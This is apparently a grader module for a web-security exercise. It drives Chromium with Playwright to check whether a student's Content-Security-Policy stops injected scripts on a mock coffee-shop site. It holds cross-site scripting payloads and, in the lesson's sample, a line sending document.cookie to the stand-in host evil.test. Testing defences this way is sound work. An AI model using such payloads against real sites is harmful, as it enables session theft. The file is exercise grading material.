"""What Chromium does with the answers of lesson 00: which scripts and styles of a page load."""

from __future__ import annotations

import re
from typing import Any
from urllib.parse import quote

from flask import Flask
from playwright.sync_api import Page

from helpers import browser, web
from helpers.exercises.arrivals import BY_HTTP, CURL, FIREFOX, OTHER_NAME
from helpers.exercises.search_shop import PLACES
from tests.chromium.attempts import SAID_BY_VISITORS, followed

RAN = "document.documentElement.dataset.{} = 'ran'"
FOREIGN = ("evil.test", "cdn.jsdelivr.net", "other.test")
INLINE = f'<script>{RAN.format("inline")}</script><img src=x onerror="{RAN.format("handler")}">'
ELSEWHERE = "".join(f"<script src=https://{name}/x.js></script>" for name in FOREIGN)
DATA = f'<script src="data:text/javascript,{RAN.format("foreign")}"></script>'
OF_THE_LESSON = """<script>
document.querySelector("p").textContent = "Please wait"
new Image().src = "https://evil.test/?" + document.cookie
</script>"""
PAYLOADS = (INLINE, ELSEWHERE, DATA)
CSP = "content-security-policy"


def first_policy(app: Any) -> dict[str, bool]:
    """Exercise 00-2: both pages with each payload; what did not get into a page is not said."""
    web.site("shop.test", app)
    web.site("www.shop.test", app)
    for name in FOREIGN:
        web.site(name, _evil())
    facts = []
    for story in (_look, _look_elsewhere):  # in two parts, that fit the time a story may take
        played = browser.play(story)
        assert not played.problem, played.problem
        facts.append(played.facts)
    ran = {str(each) for fact in facts for each in fact["ran"]}  # type: ignore[attr-defined]
    seen = {
        "The shop's own script still loads": all(fact["own script"] for fact in facts),
        "The shop's own stylesheet still loads": all(fact["own style"] for fact in facts),
    }
    if facts[0]["injected"]:
        seen["No injected inline script runs"] = not ran & {"inline", "handler"}
        seen["No injected foreign script runs"] = "foreign" not in ran
    return seen


def _look(page: Page) -> dict[str, object]:
    ran: set[str] = set()
    injected, script, style = [], [], []
    known = page.goto("https://shop.test/search?q=mocha")
    nonce = re.search("'nonce-([^']*)'", known.headers.get(CSP, "") if known else "")
    with_nonce = f'<script nonce="{nonce[1] if nonce else ""}">{RAN.format("inline")}</script>'
    for payload in (*PAYLOADS, with_nonce):
        for path in ("/search?q=", "/"):
            response = page.goto(f"https://shop.test{path}{quote(payload)}")
            ran |= _ran(page)
            injected.append(bool(response and payload in response.text()))
            script.append(page.title() == "Coffee shop")
            style.append(page.evaluate(COLOUR) == "rgb(0, 128, 0)")
            page.goto(f"http://shop.test{path}{quote(payload)}")
            ran |= _ran(page)
            script.append(page.title() == "Coffee shop")
            style.append(page.evaluate(COLOUR) == "rgb(0, 128, 0)")
        page.goto("https://evil.test/")
        page.set_content(f'<form method=post action="https://shop.test/{quote(payload)}"></form>')
        with page.expect_navigation():
            page.evaluate("document.forms[0].submit()")
        ran |= _ran(page)
    page.goto(f"https://shop.test/search?q={quote(OF_THE_LESSON)}")
    return {
        "ran": sorted(ran | _ran(page)),
        "injected": all(injected),
        "own script": all(script),
        "own style": all(style),
    }


def _look_elsewhere(page: Page) -> dict[str, object]:
    """At other addresses, and as others ask."""
    ran: set[str] = set()
    script, style = [], []
    for place in PLACES:
        page.goto(f"https://shop.test{place.format(quote(INLINE + ELSEWHERE))}")
        ran |= _ran(page)
        script.append(page.title() == "Coffee shop")
        style.append(page.evaluate(COLOUR) == "rgb(0, 128, 0)")
    page.goto(f"{OTHER_NAME}/search?q=mocha")
    script.append(page.title() == "Coffee shop")
    style.append(page.evaluate(COLOUR) == "rgb(0, 128, 0)")
    page.context.add_cookies([{"name": "session", "value": "ann", "url": "https://shop.test"}])
    for payload in (INLINE, ELSEWHERE):
        page.goto(f"https://shop.test/search?q={quote(payload)}", referer="https://evil.test/")
        ran |= _ran(page)
        ran |= _led(page, f"https://shop.test/search?q={quote(payload)}")
    return {"ran": sorted(ran), "own script": all(script), "own style": all(style)}


def _led(page: Page, url: str) -> set[str]:
    """What runs that evil.test leads to: by a link, in a frame, and in another browser."""
    followed(page, url)
    ran = _ran(page)
    page.goto("https://evil.test/")
    page.set_content(f'<iframe src="{url}"></iframe>')
    page.wait_for_load_state()
    ran |= {each for frame in page.frames for each in frame.evaluate(DATASET)}
    firefox, curl = {"User-Agent": FIREFOX, "Accept-Language": "de"}, {"User-Agent": CURL}
    for headers in (firefox, curl, *SAID_BY_VISITORS):
        page.set_extra_http_headers(headers)
        page.goto(url)
        ran |= _ran(page)
    page.set_extra_http_headers({"X-Forwarded-Proto": "http"})
    page.goto(url.replace("https://shop.test", BY_HTTP))
    ran |= _ran(page)
    page.set_extra_http_headers({})
    page.goto(url.replace("https://shop.test", OTHER_NAME))
    return ran | _ran(page)


DATASET = """({...document.documentElement.dataset,
  ...(document.querySelector("p")?.textContent == "Please wait" && {inline: "ran"})})"""


def _ran(page: Page) -> set[str]:
    page.wait_for_timeout(20)  # an error event may come after the load event
    return set(page.evaluate(DATASET))


COLOUR = "getComputedStyle(document.querySelector('p') ?? document.body).color"


def _evil() -> Flask:
    app = Flask("evil")
    app.add_url_rule("/", "home", lambda: "evil")

    @app.get("/x.js")
    def script() -> Any:
        return RAN.format("foreign"), {"Content-Type": "text/javascript"}

    return app


SEEN = {"00-2": first_policy}
